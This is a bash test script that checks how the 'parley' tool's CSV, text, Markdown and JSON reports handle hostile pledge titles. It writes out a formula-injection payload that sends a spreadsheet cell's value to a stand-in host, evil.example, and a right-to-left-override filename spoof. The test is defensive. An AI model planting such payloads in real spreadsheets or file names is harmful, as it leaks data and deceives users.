#!/usr/bin/env bash
# parley report on hostile text: a pledge whose title is a spreadsheet
# formula and another whose title holds a right-to-left override (U+202E).
# CSV prefixes the formula with ' and shows the override as "<U+202E>"
# (--csv-raw keeps both as stored); text shows it escaped; Markdown isolates
# it (U+2068 … U+2069); JSON keeps the data as it is.
set -euo pipefail
parley="$1/parley"
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
cd "$work"
fail() { echo "FAILED: $*"; exit 1; }

formula='=HYPERLINK("http://evil.example/?"&A1,"click")'
override=$'exe.\u202Etxt'
python3 - "$formula" "$override" > hostile.json <<'PY'
import json, sys
formula, override = sys.argv[1], sys.argv[2]
def pledge(id, title):
    return {"id": id, "kind": "pledge", "title": {"en": title},
            "time": "2017-02-16",
            "details": {"pledger": "actor:a", "obligations": ["x"],
                        "deadline": "2017-02-20", "status": "made"}}
print(json.dumps({
    "format": "parley", "version": 1, "recorded": "2017-02-16T18:00:00Z",
    "actors": [{"id": "actor:a", "kind": "state", "names": {"en": "A"}}],
    "events": [pledge("event:formula", formula),
               pledge("event:override", override)]}))
PY
"$parley" init h.db
"$parley" import h.db hostile.json

# CSV, read back by Python's csv module: each title as the rule makes it.
check_csv() {  # FILE FORMULA-TITLE OVERRIDE-TITLE
  python3 - "$@" <<'PY'
import csv, sys
rows = {r["id"]: r for r in csv.DictReader(open(sys.argv[1], newline=""))}
assert rows["event:formula"]["title"] == sys.argv[2], rows
assert rows["event:override"]["title"] == sys.argv[3], rows
PY
}
"$parley" report pledges h.db --format csv -o safe.csv
check_csv safe.csv "'$formula" "exe.<U+202E>txt" || fail "csv: $(cat safe.csv)"
"$parley" report pledges h.db --format csv --csv-raw -o raw.csv
check_csv raw.csv "$formula" "$override" || fail "--csv-raw: $(cat raw.csv)"

# Text: the override escaped, never as the character.
out=$("$parley" report pledges h.db)
grep -qF "exe.<U+202E>txt" <<<"$out" || fail "text: $out"
! grep -qF $'\u202E' <<<"$out" || fail "text keeps U+202E: $out"

# Markdown: the cell isolated.
out=$("$parley" report pledges h.db --format md)
grep -qF $'| \u2068exe.\u202Etxt\u2069 |' <<<"$out" || fail "md: $out"

# JSON: the data as stored.
"$parley" report pledges h.db --format json | python3 -c '
import json, sys
rows = {r["id"]: r for r in json.load(sys.stdin)}
assert rows["event:override"]["title"] == sys.argv[1], rows
assert rows["event:formula"]["title"] == sys.argv[2], rows
' "$override" "$formula" || fail "json"
echo ok
